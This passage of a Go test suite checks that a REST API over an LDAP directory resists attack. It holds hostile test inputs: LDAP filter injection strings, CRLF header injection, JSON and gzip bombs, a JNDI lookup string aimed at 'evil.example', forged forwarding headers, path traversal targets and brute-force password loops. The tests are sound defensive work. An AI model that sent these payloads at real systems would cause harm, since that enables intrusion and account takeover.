			"*", "a*", "alic*", "*lice", "al*ce", "*)(uid=*", "alice)(uid=*", "*)(uid=alice))(|(uid=*", "alice)(|(cn=*)",
			"alice)(objectClass=*", "alice))(&(uid=alice", "(alice)", "(uid=alice)", "alice)", "(&(uid=alice))",
			"|(uid=alice)",
			userDN("alice"), "cn=alice", "uid=alice", "cn=alice,ou=people", "alice,ou=people", "dn:" + userDN("alice"),
			"u:alice",
			`\61lice`, `\2a`, `alic\65`, `alice\`, `alice\00`, `alice\2a`, `\\61lice`, "&#97;lice", "%61lice",
			"alice\x00", "\x00alice", "alice\x00)(uid=*", "\x00", "al\x00ice",
			"alice;", "alice#", "#616c696365", "alice\u200b", "\u0430lice", "alice\xff", "alice@example.org",
			"dn=" + userDN("alice"), "<SID=alice>", "..", "../alice", "alice/../admin",
		} {
			t.Run(door.name+" "+name, func(t *testing.T) {
				x := door.knock(a.api, name, "alice-password")
				x.t = t
				switch {
				case !strings.Contains(name, "\xff") || door.name == "Basic":
					x.refused(directory.InvalidCredentials)
				case x.Status == 200: // JSON has no \xff
					x.fail("it is taken for alice")
				}
			})
		}
	}
	if n, _ := a.failures("alice"); n != 0 {
		t.Errorf("%d of them were taken for alice's", n)
	}
}

// Names that exist, and those that don't.

// glance is what somebody sees of an answer, and how often the directory was asked for it.
type glance struct {
	Status     int
	Header     http.Header
	Body       object
	Operations any
}

// glance returns an answer without what is different each time.
func (a *target) glance(x *exchange) glance {
	x.t.Helper()
	g := glance{x.Status, x.Header.Clone(), x.object(), a.logged(x)["ldap_operations"]}
	g.Header.Del("Date")
	g.Header.Del("X-Request-Id")
	delete(g.Body, "requestId")
	delete(g.Body, "instance")
	if wait, err := strconv.Atoi(g.Header.Get("Retry-After")); err == nil && wait > 0 && wait <= 900 {
		g.Header.Set("Retry-After", "a while")
	}
	return g
}

func TestARefusalDoesNotTellWhoExists(t *testing.T) {
	seed, err := openldap.Sample(openldap.Values{Suffix: openldap.DefaultSuffix})
	if err != nil {
		t.Fatal(err)
	}
	for _, twin := range []string{"twin1", "twin2"} { // the server refuses the second, but not from the seed
		seed += "\ndn: " + userDN(twin) + "\nobjectClass: inetOrgPerson\ncn: " + twin + "\nsn: x\nuid: twin\n"
	}
	server := ldapdirtest.Start(t, slapd.Options{Seed: seed})
	const password, wrong = "somebodys-password", "not-somebodys-password"
	l := ldapdirtest.Bind(t, server)
	for _, twin := range []string{"twin1", "twin2"} {
		set := ldap.NewModifyRequest(userDN(twin), nil)
		set.Replace("userPassword", []string{password})
		if err := l.Modify(set); err != nil {
			t.Fatal(err)
		}
	}
	rows := []struct {
		what, login, password string
		made                  object // who the login is of
		prepare               func(a *target)
	}{
		{what: "an unknown name", login: "nobody", password: wrong},
		{what: "another unknown name, injected", login: "*)(uid=*", password: wrong},
		{what: "a wrong password", login: "carol", password: wrong, made: object{}},
		{what: "a wrong password of who is logged in", login: "active", password: wrong, made: object{},
			prepare: func(a *target) { a.from("198.51.100.1").as("active", password).do("GET", "/me", nil).want(200) }},
		{what: "a locked user's right password", login: "locked", password: password, made: object{},
			prepare: func(a *target) { a.do("PATCH", "/users/locked", object{"accountLocked": true}).want(200) }},
		{what: "a locked user's wrong password", login: "locked2", password: wrong, made: object{},
			prepare: func(a *target) { a.do("PATCH", "/users/locked2", object{"accountLocked": true}).want(200) }},
		{what: "the right password of who is locked for a while", login: "tried", password: password, made: object{},
			prepare: func(a *target) {
				c, err := ldap.DialURL(a.slapd.URL())
				if err != nil {
					a.t.Fatal(err)
				}
				defer c.Close()
				for range 11 {
					_ = c.Bind(userDN("tried"), "wrong") // elsewhere
				}
				a.do("GET", "/users/tried", nil).want(200).field("accountLocked", true)
			}},
		{what: "a user without a password", login: "wangfang", password: wrong},
		{what: "an ambiguous name", login: "twin", password: password},
		{what: "a name with a space", login: "no body", password: wrong},
	}
	for _, door := range doors {
		t.Run(door.name, func(t *testing.T) {
			a := newTargetOn(t, server, realistic)
			want := map[string]glance{}
			for i, c := range rows {
				if c.made != nil {
					user := object{"sn": "x", "userPassword": password}
					a.do("DELETE", "/users/"+c.login, nil)
					a.do("PUT", "/users/"+c.login, user).want(201)
				}
				attacker := a.from(fmt.Sprintf("192.0.2.%d", 10+i))
				got := map[string]glance{}
				for n := 1; len(got) < 3; n++ {
					if c.prepare != nil && n == 1 {
						c.prepare(a)
					}
					x := door.knock(attacker, c.login, c.password)
					switch _, refused := got["the first 429"]; {
					case n == 1:
						got["the first refusal"] = a.glance(x.refused(directory.InvalidCredentials))
					case x.Status == 401 && n <= 3: // in its own time
					case !refused:
						got["the first 429"] = a.glance(x.refused(directory.TooManyLogins))
					default:
						got["the second 429"] = a.glance(x.refused(directory.TooManyLogins))
					}
				}
				for when, g := range got {
					if _, ok := want[when]; !ok {
						want[when] = g
						if strings.Contains(when, "429") && g.Header.Get("Retry-After") != "a while" {
							t.Errorf("%s says nothing of when to try again: %v", when, g)
						}
					}
					if diff := cmp.Diff(want[when], g); diff != "" {
						t.Errorf("%s of %s is not that of %s (-, +):\n%s", when, c.what, rows[0].what, diff)
					}
				}
			}
		})
	}
}

// Guessing.

// failures returns how many wrong passwords of a user the directory has counted since the last right one, and
// whether that has locked it.
func (a *target) failures(name string) (n int, locked bool) {
	a.t.Helper()
	entry := a.search(userDN(name), ldap.ScopeBaseObject)[0]
	return len(entry.GetAttributeValues("pwdFailureTime")), len(entry.GetAttributeValues("pwdAccountLockedTime")) > 0
}

// holds demands that the directory has counted at least one and at most so many wrong passwords of a user.
func (a *target) holds(name string, most int) {
	a.t.Helper()
	if n, locked := a.failures(name); n < 1 || n > most || locked {
		a.t.Errorf("%d wrong passwords of %s reached the directory, want 1 to %d; locked: %t", n, name, most, locked)
	}
}

// tally counts answers to logins by their status: 401, or 429 that says for how long.
type tally struct {
	mutex    sync.Mutex
	statuses map[int]int
}

func (c *tally) add(x *exchange) {
	x.t.Helper()
	wait, err := strconv.Atoi(x.Header.Get("Retry-After"))
	switch {
	case x.Status == 429 && (err != nil || wait < 1 || wait > 900):
		x.t.Errorf("Retry-After is %q", x.Header.Get("Retry-After"))
	case x.Status != 429 && x.Status != 401:
		x.t.Errorf("%s\n%d %s", x.request, x.Status, x.Body)
	}
	c.mutex.Lock()
	defer c.mutex.Unlock()
	if c.statuses == nil {
		c.statuses = map[int]int{}
	}
	c.statuses[x.Status]++
}

// within demands that at least one password was tried, and at most so many of all.
func (c *tally) within(t *testing.T, most, all int) {
	t.Helper()
	if n := c.statuses[401]; n < 1 || n > most || n+c.statuses[429] != all {
		t.Errorf("%d passwords were tried, want 1 to %d of %d: %v", n, most, all, c.statuses)
	}
}

func guess(i int) string { return fmt.Sprintf("wrong-guess-%04d", i) }

const (
	evil = "203.0.113.66"
	home = "198.51.100.7"
)

func TestAThousandWrongPasswordsAreThree(t *testing.T) {
	for _, door := range doors {
		t.Run(door.name, func(t *testing.T) {
			a := newTarget(t, realistic)
			var c tally
			for i := range 1000 {
				c.add(door.knock(a.from(evil), "alice", guess(i)))
			}
			c.within(t, 3, 1000)
			a.holds("alice", 3)
			door.knock(a.from(evil), "alice", "alice-password").refused(directory.TooManyLogins)
			door.knock(a.from(home), "alice", "alice-password").want(200) // alice gets in from elsewhere
		})
	}
}

func TestNobodyGetsMoreTries(t *testing.T) {
	spellings := []string{
		"alice", "ALICE", "Alice", "aLiCe", "\uff41\uff4c\uff49\uff43\uff45", "\uff21lice", " alice", "alice ",
		"  alice  ", "alice\u00a0",
	}
	strangers := []string{
		"no one", "NO ONE", "No One", " no one", "no one ", "no  one", "\uff4eo one", "no\u00a0one",
		"\uff2e\uff2f one", "  no   one  ",
	}
	for _, c := range []struct {
		what   string
		change func(*settings)
		// victim is whose password is tried; "" for nobody's.
		victim string
		most   int
		guess  func(a *target, i int) *exchange
	}{
		{"by saying that they come from elsewhere", func(s *settings) { s.rest.TrustedProxies = nil }, "alice", 3,
			func(a *target, i int) *exchange {
				address := fmt.Sprintf("192.0.2.%d", i)
				return a.as("alice", guess(i)).do("GET", "/me", nil, "X-Forwarded-For", address, "X-Real-Ip", address,
					"Forwarded", "for="+address, "X-Client-Ip", address, "True-Client-Ip", address, "Cf-Connecting-Ip", address)
			}},
		{"by saying so to the proxy", nil, "alice", 3,
			func(a *target, i int) *exchange {
				return doors[i%2].knock(a.from(fmt.Sprintf("192.0.2.%d, 10.0.0.%d, %s", i, i, evil)), "alice", guess(i))
			}},
		{"by spelling the name otherwise", nil, "alice", 3,
			func(a *target, i int) *exchange {
				return doors[i%2].knock(a.from(evil), spellings[i%len(spellings)], guess(i))
			}},
		{"by spelling a name otherwise that is nobody's", nil, "", 3,
			func(a *target, i int) *exchange {
				return doors[i%2].knock(a.from(evil), strangers[i%len(strangers)], guess(i))
			}},
		{"by coming from many addresses", nil, "alice", 6,
			func(a *target, i int) *exchange {
				from := a.from(fmt.Sprintf("192.0.2.%d", i))
				return doors[i%2].knock(from, spellings[i%len(spellings)], guess(i))
			}},
		{"by coming from many addresses of one network", nil, "alice", 3,
			func(a *target, i int) *exchange {
				return doors[i%2].knock(a.from(fmt.Sprintf("2001:db8::%x:%x", i*7919%65536, i)), "alice", guess(i))
			}},
		{"by trying many names", nil, "", 30,
			func(a *target, i int) *exchange {
				return doors[i%2].knock(a.from(evil), []string{"bob", "anna", "jose"}[i%3]+strconv.Itoa(i), "Summer2026!")
			}},
		{"by logging in to an account of their own in between", nil, "alice", 3,
			func(a *target, i int) *exchange {
				if i == 0 {
					a.do("POST", "/users", object{"cn": "mallory", "sn": "x", "userPassword": "mallory-password"}).want(201)
				}
				doors[i%2].knock(a.from(evil), "mallory", "mallory-password").want(200)
				return doors[i%2].knock(a.from(evil), "alice", guess(i))
			}},
		{"by other doors", nil, "alice", 3,
			func(a *target, i int) *exchange { return doors[i%2].knock(a.from(evil), "alice", guess(i)) }},
		{"by the victim's own logins", nil, "", 6,
			func(a *target, i int) *exchange {
				doors[i%2].knock(a.from(home), "alice", "alice-password").want(200)
				return doors[i%2].knock(a.from(fmt.Sprintf("192.0.2.%d", i)), "alice", guess(i))
			}},
	} {
		t.Run(c.what, func(t *testing.T) {
			changes := []func(*settings){realistic}
			if c.change != nil {
				changes = append(changes, c.change)
			}
			a := newTarget(t, changes...)
			var tried tally
			for i := range 60 {
				tried.add(c.guess(a, i))
			}
			tried.within(t, c.most, 60)
			if c.victim != "" {
				a.holds(c.victim, c.most)
			}
		})
	}
}

func TestWhoWasHereBeforeGetsInWhileOthersGuess(t *testing.T) {
	a := newTarget(t, realistic)
	doors[1].knock(a.from(home), "alice", "alice-password").want(200)
	var siege tally
	for i := range 100 {
		siege.add(doors[i%2].knock(a.from(fmt.Sprintf("192.0.2.%d", i)), "alice", guess(i)))
	}
	siege.within(t, 6, 100)
	for _, door := range doors {
		door.knock(a.from(home), "alice", "alice-password").want(200)
	}
}

func TestManyAtOnceGetNoMoreTries(t *testing.T) {
	for _, door := range doors {
		t.Run(door.name, func(t *testing.T) {
			a := newTarget(t, realistic)
			var c tally
			var all sync.WaitGroup
			for i := range 64 {
				all.Go(func() { c.add(door.knock(a.from(evil), "alice", guess(i))) })
			}
			all.Wait()
			c.within(t, 3, 64)
			a.holds("alice", 3)
		})
	}
}

func TestHangingUpIsNoWayToGetMoreTries(t *testing.T) {
	a := newTarget(t, realistic)
	const guesses = 60
	for i := range guesses {
		c := a.dial(a.server.Listener.Addr().String())
		text := "GET /me HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: " + evil + "\r\n" + a.basic("alice", guess(i)) + "\r\n"
		if _, err := io.WriteString(c, text); err != nil {
			t.Fatal(err)
		}
		// The directory takes longer than that to try a password of alice's.
		if err := c.SetReadDeadline(time.Now().Add(time.Duration(1+i%20) * time.Millisecond)); err != nil {
			t.Fatal(err)
		}
		_, _ = c.Read(make([]byte, 1))
		_ = c.Close()
	}
	within(t, func() bool { return strings.Count(a.log.text(), `"route":"/me"`) == guesses })
	a.holds("alice", 3)
}

func TestAWrongCurrentPasswordIsAFailedLogin(t *testing.T) {
	a := newTarget(t, realistic)
	alice := a.from(evil) // who has her token, but not her password
	alice.Token = alice.login("alice", "alice-password").AccessToken
	change := func(current string) *exchange {
		body := object{"currentPassword": current, "newPassword": "the-thiefs-password"}
		return alice.do("PUT", "/users/alice/password", body)
	}
	tried := 0
	for i := range 60 {
		x := change(guess(i))
		if x.Status == 429 {
			x.refused(directory.TooManyLogins)
			continue
		}
		x.refused(directory.Invalid, "currentPassword")
		tried++
	}
	if tried < 1 || tried > 3 {
		t.Errorf("%d were tried", tried)
	}
	a.holds("alice", 3)
	doors[1].knock(a.from(evil), "alice", "alice-password").refused(directory.TooManyLogins)
	change("alice-password").refused(directory.TooManyLogins)
	for _, door := range doors {
		door.knock(a.from(home), "alice", "alice-password").want(200)
	}
}

func TestARememberedPasswordWorksWhileItsAddressIsLimited(t *testing.T) {
	a := newTarget(t, realistic)
	alice := a.from(evil).as("alice", "alice-password") // behind the same address as the attacker
	alice.do("GET", "/me", nil).want(200)
	var c tally
	for i := range 60 {
		c.add(doors[i%2].knock(a.from(evil), "name"+strconv.Itoa(i), guess(i)))
		alice.do("GET", "/me", nil).want(200)
	}
	c.within(t, 30, 60)
	a.do("POST", "/users", object{"cn": "carol", "sn": "x", "userPassword": "carols-password"}).want(201)
	for _, door := range doors {
		door.knock(a.from(evil), "carol", "carols-password").refused(directory.TooManyLogins)
		door.knock(a.from(home), "carol", "carols-password").want(200)
		door.knock(a.from(evil), "alice", "alice-password").want(200)
	}
}

// TestAPasswordIsNoEasierToGuessWhileItIsRemembered: who has spent their tries is not told that a guess is right.
func TestAPasswordIsNoEasierToGuessWhileItIsRemembered(t *testing.T) {
	for what, from := range map[string]string{"from elsewhere": evil, "from the same address": home} {
		for _, door := range doors {
			t.Run(what+" by "+door.name, func(t *testing.T) {
				a := newTarget(t, realistic)
				a.from(home).as("alice", "alice-password").do("GET", "/me", nil).want(200)
				var c tally
				for i := range 20 {
					c.add(door.knock(a.from(from), "alice", guess(i)))
				}
				c.within(t, 3, 20)
				door.knock(a.from(from), "alice", "alice-password").refused(directory.TooManyLogins)
			})
		}
	}
	t.Run("from many addresses", func(t *testing.T) {
		a := newTarget(t, realistic)
		a.from(home).as("alice", "alice-password").do("GET", "/me", nil).want(200)
		var c tally
		for i := range 20 {
			c.add(doors[0].knock(a.from(fmt.Sprintf("192.0.2.%d", i)), "alice", guess(i)))
		}
		c.within(t, 6, 20)
		doors[0].knock(a.from(evil), "alice", "alice-password").refused(directory.TooManyLogins)
	})
}

// Bodies.

// bodies are the routes that take one, each with a field that it knows.
var bodies = []struct{ method, path, field string }{
	{"POST", "/login", "username"}, {"POST", "/refresh", "refresh_token"},
	{"POST", "/users", "cn"}, {"POST", "/groups", "members"}, {"POST", "/hosts", "sshPublicKeys"},
	{"PUT", "/users/alice", "accountLocked"}, {"PUT", "/groups/devs", "description"},
	{"PUT", "/hosts/web1", "ipAddresses"},
	{"PATCH", "/users/alice", "sn"}, {"PATCH", "/groups/devs", "members"}, {"PATCH", "/hosts/web1", "location"},
	{"PUT", "/users/alice/password", "newPassword"},
}

func gzipped(text string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = io.WriteString(w, text)
	_ = w.Close()
	return b.String()
}

func TestNoBodyIsABomb(t *testing.T) {
	a := newTarget(t)
	const deep = 100_000
	arrays := strings.Repeat("[", deep) + strings.Repeat("]", deep)
	objects := strings.Repeat(`{"x":`, deep) + "1" + strings.Repeat("}", deep)
	inflates := []string{"Content-Encoding", "gzip"}
	refused := directory.UnsupportedMediaType
	many := "{"
	for i := range 5_000 {
		many += `"f` + strconv.Itoa(i) + `":1,`
	}
	many += `"x":1}`
	for _, c := range []struct {
		what string
		body string // FIELD stands for a field that the route knows
		code *directory.Code
		more []string // headers
	}{
		{"gzip", gzipped(`{"FIELD":"` + strings.Repeat("0", 10<<20) + `"}`), refused, inflates},
		{"small gzip", gzipped(`{"FIELD":"x"}`), refused, inflates},
		{"gzip in another case", gzipped(`{}`), refused, []string{"Content-Encoding", "GZip"}},
		{"gzip twice", gzipped(gzipped("{}")), refused, []string{"Content-Encoding", "gzip, gzip"}},
		{"deflate", "x", refused, []string{"Content-Encoding", "deflate"}},
		{"brotli", "x", refused, []string{"Content-Encoding", "br"}},
		{"gzip that does not say so", gzipped(`{"FIELD":"x"}`), directory.BadRequest, nil},
		{"deep arrays in a field", `{"FIELD":` + arrays + `}`, directory.BadRequest, nil},
		{"deep objects in a field", `{"FIELD":` + objects + `}`, directory.BadRequest, nil},
		{"deep arrays in an unknown field", `{"x":` + arrays + `}`, directory.BadRequest, nil},
		{"deep objects", objects, directory.BadRequest, nil},
		{"deep arrays", arrays, directory.BadRequest, nil},
		{"deep arrays without end", `{"FIELD":` + strings.Repeat("[", deep), directory.BadRequest, nil},
		{"a number without bounds", `{"FIELD":1e999999999}`, directory.Invalid, nil},
		{"a number of many digits", `{"FIELD":` + strings.Repeat("9", 500_000) + `}`, directory.Invalid, nil},
		{"a fraction of many digits", `{"FIELD":-0.` + strings.Repeat("0", 500_000) + `1e-999999}`, directory.Invalid, nil},
		{"one field twice", `{"FIELD":"a","FIELD":"b"}`, directory.Invalid, nil},
		{"one field twice, once escaped", `{"FIELD":null,"\u00` + "FIRST" + `":"b"}`, directory.Invalid, nil},
		{"an unknown field twice", `{"x":1,"x":2}`, directory.Invalid, nil},
		{"many fields", many, directory.Invalid, nil},
		{"a field with a long name", `{"` + strings.Repeat("x", 900_000) + `":1}`, directory.Invalid, nil},
		{"__proto__", `{"__proto__":{"admin":true},"constructor":1}`, directory.Invalid, nil},
		{"NaN", `{"FIELD":NaN}`, directory.BadRequest, nil},
		{"a second object", `{}{}`, directory.BadRequest, nil},
		{"a string without end", `{"FIELD":"` + strings.Repeat("x", 900_000), directory.BadRequest, nil},
		{"no UTF-8", "{\"FIELD\":\"\xff\"}", directory.BadRequest, nil},
		{"UTF-16", "\xff\xfe{\x00}\x00", directory.BadRequest, nil},
		{"null", "null", directory.BadRequest, nil},
		{"10 MB", `{"FIELD":"` + strings.Repeat("x", 10<<20) + `"}`, directory.BodyTooLarge, nil},
		{"10 MB of spaces", strings.Repeat(" ", 10<<20) + "{}", directory.BodyTooLarge, nil},
		{"XML", `<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>`, refused, []string{"Content-Type", "application/xml"}},
	} {
		t.Run(c.what, func(t *testing.T) {
			for _, route := range bodies {
				if len(c.body) > 1<<20 && route.path != "/login" && route.path != "/users" {
					continue // that takes long, and they all read it in the same way
				}
				body := strings.ReplaceAll(c.body, "FIELD", route.field)
				body = strings.ReplaceAll(body, "FIRST", fmt.Sprintf("%x%s", route.field[0], route.field[1:]))
				x := a.do(route.method, route.path, body, c.more...)
				x.t, x.request = t, x.request[:min(200, len(x.request))]
				x.is(c.code)
				if len(x.Body) > 64<<10 {
					x.Body = x.Body[:1000]
					x.fail("the answer is large")
				}
				if line := mustJSON(a.logged(x)); len(line) > 64<<10 {
					x.fail("its line in the log is of %d bytes", len(line))
				}
			}
		})
	}
	a.from("192.0.2.1").login("alice", "alice-password") // and nothing has changed
}

// reply is what a raw request is answered with.
type reply struct {
	status int
	header http.Header
	body   string
	// ends tells that the connection does, closed that it did without an answer.
	ends, closed bool
}

// dial opens a connection that ends with the test.
func (a *target) dial(address string) net.Conn {
	a.t.Helper()
	c, err := net.Dial("tcp", address)
	if err != nil {
		a.t.Fatal(err)
	}
	a.t.Cleanup(func() { _ = c.Close() })
	if err := c.SetDeadline(time.Now().Add(time.Minute)); err != nil {
		a.t.Fatal(err)
	}
	return c
}

// send sends bytes as they are, and returns the first answer to them.
func (a *target) send(address, text string) reply {
	a.t.Helper()
	c := a.dial(address)
	defer c.Close()
	go func() { _, _ = io.WriteString(c, text) }() // the server may have answered before it has read them all
	return a.reply(c)
}

func (a *target) reply(c net.Conn) reply {
	a.t.Helper()
	response, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return reply{closed: true, header: http.Header{}}
	}
	defer response.Body.Close()
	body, err := io.ReadAll(response.Body)
	if err != nil && response.StatusCode != http.StatusRequestEntityTooLarge {
		a.t.Errorf("the answer is cut off: %v", err)
	}
	return reply{response.StatusCode, response.Header, string(body), response.Close, false}
}

// served serves the target as main does and returns the address.
func (a *target) served(change func(*http.Server)) string {
	a.t.Helper()
	s := &http.Server{
		Handler: a.server.Config.Handler, ReadHeaderTimeout: 5 * time.Second, ReadTimeout: 8 * time.Second,
		WriteTimeout: 30 * time.Second, MaxHeaderBytes: 32 << 10,
	}
	if change != nil {
		change(s)
	}
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		a.t.Fatal(err)
	}
	var running sync.WaitGroup
	running.Go(func() { _ = s.Serve(listener) })
	a.t.Cleanup(func() {
		_ = s.Close()
		running.Wait()
	})
	return listener.Addr().String()
}

func (a *target) basic(login, password string) string {
	text := base64.StdEncoding.EncodeToString([]byte(login + ":" + password))
	a.secrets.addAuthorization("Basic " + text)
	return "Authorization: Basic " + text + "\r\n"
}

func TestABodyWithoutEndIsCut(t *testing.T) {
	a := newTarget(t)
	address := a.server.Listener.Addr().String()
	const most = 32 << 20 // what the system itself takes is less
	chunk := "2000\r\n" + strings.Repeat("x", 0x2000) + "\r\n"
	for _, route := range bodies {
		t.Run(route.method+" "+route.path, func(t *testing.T) {
			c := a.dial(address)
			defer c.Close()
			sent, ended := 0, make(chan struct{})
			go func() {
				defer close(ended)
				_, err := io.WriteString(c, route.method+" "+route.path+" HTTP/1.1\r\nHost: x\r\n"+a.basic("admin", "admin")+
					"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
				for ; err == nil && sent < most; sent += len(chunk) {
					_, err = io.WriteString(c, chunk)
				}
				_ = c.(*net.TCPConn).CloseWrite()
			}()
			answer := a.reply(c)
			if answer.status != 413 && !answer.closed { // closed: the answer was lost to what was still being sent
				t.Errorf("it is answered with %d %s", answer.status, answer.body)
			}
			_ = c.Close()
			<-ended
			if sent >= most {
				t.Errorf("%d bytes of it were taken", sent)
			}
		})
	}
}

func TestASlowBodyIsGivenUp(t *testing.T) {
	a := newTarget(t)
	address := a.served(func(s *http.Server) { s.ReadTimeout = 300 * time.Millisecond })
	var all sync.WaitGroup
	for _, route := range bodies {
		all.Go(func() {
			answer := a.send(address, route.method+" "+route.path+" HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"+
				"Content-Length: 100\r\n"+a.basic("admin", "admin")+"\r\n{")
			if answer.status != 408 || !strings.Contains(answer.body, directory.RequestTimeout.Name) {
				t.Errorf("%s %s is answered with %d %s", route.method, route.path, answer.status, answer.body)
			}
		})
	}
	all.Wait()
}

// Headers.

func TestNamesWriteNoHeaders(t *testing.T) {
	a := newTarget(t)
	for _, name := range []string{
		"x\r\nSet-Cookie: a=b", "x\nSet-Cookie: a=b", "x\rSet-Cookie: a=b", "x\r\n\r\n<script>", "x\x00y",
		"x\u0085Set-Cookie: a=b", "\r\n", "x\x1b[2J", "x\x7f",
	} {
		for _, x := range []*exchange{
			a.do("POST", "/users", object{"cn": name, "sn": "x"}).refused(directory.Invalid, "cn"),
			a.do("PUT", client.Path("users", name), object{"sn": "x"}).refused(directory.Invalid, "cn"),
			a.do("POST", "/groups", object{"cn": name}).refused(directory.Invalid, "cn"),
			a.do("GET", client.Path("users", name), nil).refused(directory.NotFound),
			a.do("DELETE", client.Path("groups", name), nil).refused(directory.NotFound),
			a.do("PUT", client.Path("groups", "devs", "members", "users", name), nil).refused(directory.NotFound),
			a.do("GET", client.Path("errors", name), nil).refused(directory.NotFound),
			a.do("GET", client.Path(name), nil).refused(directory.NoSuchRoute),
			doors[1].knock(a.api, name, "x").refused(directory.InvalidCredentials),
		} {
			x.plain()
		}
	}
	for _, name := range []string{
		"x\u2028Set-Cookie: a=b", `x", "y": "z`, `x>; rel="next"`, "<script>alert(1)</script>", "x;y,z",
		"%0d%0aSet-Cookie: a=b", "a/../b", "x?y#z", "é\u202e",
	} {
		x := a.do("POST", "/users", object{"cn": name, "sn": "x"}).want(201).field("cn", name)
		x.plain()
		location, err := url.Parse(x.Header.Get("Location"))
		if err != nil || location.Path != "/users/"+name || location.RawQuery != "" || location.Fragment != "" {
			x.fail("the Location is %q", x.Header.Get("Location"))
		}
		a.do("GET", location.RequestURI(), nil).want(200).field("cn", name)
	}
}

// plain demands that an answer has no header that nobody sets, and none with a control character or beyond ASCII.
func (x *exchange) plain() {
	x.t.Helper()
	known := []string{
		"Cache-Control", "Content-Length", "Content-Security-Policy", "Content-Type", "Cross-Origin-Resource-Policy",
		"Date", "Etag",
		"Location", "Referrer-Policy", "X-Content-Type-Options", "X-Request-Id", "Vary", "Allow", "Connection",
		"Www-Authenticate",
	}
	for name, values := range x.Header {
		if !slices.Contains(known, name) {
			x.fail("there is a header %q", name)
		}
		if strings.ContainsFunc(strings.Join(values, ""), func(r rune) bool { return r < ' ' || r > '~' }) {
			x.fail("%s is %q", name, values)
		}
	}
}

func TestHeadersOfStrangersAreNotBelieved(t *testing.T) {
	a := newTarget(t, func(s *settings) { s.rest.TrustedProxies = nil })
	forwarded := []string{
		"X-Forwarded-Host", "evil.example", "X-Forwarded-Proto", "https", "X-Forwarded-Prefix", "/evil",
		"X-Forwarded-For", "192.0.2.66",
		"Forwarded", `for=192.0.2.66;host=evil.example;proto=https`, "X-Original-Url", "/users/bob", "X-Rewrite-Url",
		"/users/bob",
		"X-Http-Method-Override", "DELETE", "X-Method-Override", "DELETE", "X-Remote-User", "admin",
		"X-Forwarded-User", "admin",
	}
	x := a.do("POST", "/users", object{"cn": "zed", "sn": "x"}, forwarded...).want(201)
	if got, want := x.Header.Get("Location"), a.server.URL+"/users/zed"; got != want {
		x.fail("the Location is %s, want %s", got, want)
	}
	if x.Header.Get("Strict-Transport-Security") != "" {
		x.fail("it is taken for HTTPS")
	}
	for _, e := range a.trail.of(x) {
		if e.Address != "127.0.0.1" {
			x.fail("the audit trail has it from %s", e.Address)
		}
	}
	if x := a.do("GET", "/", nil, forwarded...).want(200); strings.Contains(string(x.Body), "evil") {
		x.fail("it names another host")
	}
	a.as("alice", "alice-password").do("GET", "/users/alice", nil, forwarded...).want(200).field("cn", "alice")
	a.as("", "").do("GET", "/users/alice", nil, forwarded...).refused(directory.CredentialsRequired)
}

func TestAHostIsAHost(t *testing.T) {
	a := newTarget(t)
	address := a.server.Listener.Addr().String()
	for _, host := range []string{
		"evil.example/x", "evil.example?x", "evil.example#x", "a@evil.example", `evil"example`, "<script>",
		"evil example", "evil\texample", `evil\example`, "é",
	} {
		answer := a.send(address, "GET / HTTP/1.1\r\nHost: "+host+"\r\n\r\n")
		if answer.status != 400 {
			t.Errorf("the host %q is answered with %d %s", host, answer.status, answer.body)
		}
	}
	for _, lines := range []string{"", "Host: a\r\nHost: b\r\n", "Host: a\r\n b\r\n"} {
		if answer := a.send(address, "GET / HTTP/1.1\r\n"+lines+"\r\n"); answer.status != 400 {
			t.Errorf("the hosts %q are answered with %d %s", lines, answer.status, answer.body)
		}
	}
	for _, forwarded := range []string{
		"evil.example/x", "a@evil.example", `evil"example`, "<script>", "evil example", "é", "a\\b", "a?b", "a#b",
	} {
		x := a.do("GET", "/", nil, "X-Forwarded-Host", forwarded).want(200)
		var index struct{ Links map[string]string }
		x.decode(&index)
		if index.Links["me"] != a.server.URL+"/me" {
			x.fail("what is no host is believed: %s", index.Links["me"])
		}
	}
}

func TestARequestIDIsALineOfItsOwn(t *testing.T) {
	a := newTarget(t)
	address := a.server.Listener.Addr().String()
	for _, line := range []string{
		`X-Request-Id: a","level":"error`, "X-Request-Id: a b", "X-Request-Id: a\r\n b", "X-Request-Id: a\tb",
		"X-Request-Id: é",
		"X-Request-Id: " + strings.Repeat("x", 129), "X-Request-Id: <script>", "X-Request-Id: a\x1b[2J",
		"X-Request-Id: a\rSet-Cookie: b",
		"X-Request-Id: \xff", "X-Request-Id: ${jndi:ldap://evil.example/}",
		"X-Request-Id: a\x00b", "X-Request-Id:",
	} {
		answer := a.send(address, "GET /nothing HTTP/1.1\r\nHost: x\r\n"+line+"\r\n\r\n")
		_, sent, _ := strings.Cut(line, ": ")
		got := answer.header.Get("X-Request-Id")
		anew := answer.status == 404 && got != "" && got != sent
		if answer.status != 400 && !anew || answer.header.Get("Set-Cookie") != "" {
			t.Errorf("%q is answered with %d %v", line, answer.status, answer.header)
		}
	}
}

// Paths.

func TestAPathLeadsWhereItSaysOrNowhere(t *testing.T) {
	a := newTarget(t)
	address := a.server.Listener.Addr().String()
	alice, admin := a.basic("alice", "alice-password"), a.basic("admin", "admin")
	base := newTargetOn(t, a.slapd, func(s *settings) { s.rest.BasePath = "/api" })
	below := base.server.Listener.Addr().String()
	for _, c := range []struct {
		target string
		admin  int // what an admin is answered with: 200 for alice's entry, 404, or 400
	}{
		{"/users/alice", 200}, {"/users/%61lice", 200}, {"/users/ALICE", 200}, {"/users/alice?x=/../bob", 200},
		{"/users/alice?", 200},
		{"http://evil.example/users/alice", 200}, {"HTTP://evil.example/users/alice", 200},
		{"/users/alice/", 404}, {"/users/alice//", 404}, {"//users/alice", 404}, {"/users//alice", 404},
		{"///users/alice", 404},
		{"//evil.example/users/alice", 404}, {"/./users/alice", 404}, {"/users/./alice", 404}, {"/users/alice/.", 404},
		{"/users/bob/../alice", 404}, {"/healthz/../users/alice", 404}, {"/errors/../users/alice", 404},
		{"/errors/%2e%2e/users/alice", 404},
		{"/login/../users/alice", 404}, {"/.well-known/jwks.json/../../users/alice", 404},
		{"/docs/access/../../users/alice", 404},
		{"/healthz/%2e%2e/users/alice", 404}, {"/healthz%2f..%2fusers/alice", 404}, {"/%2e%2e/users/alice", 404},
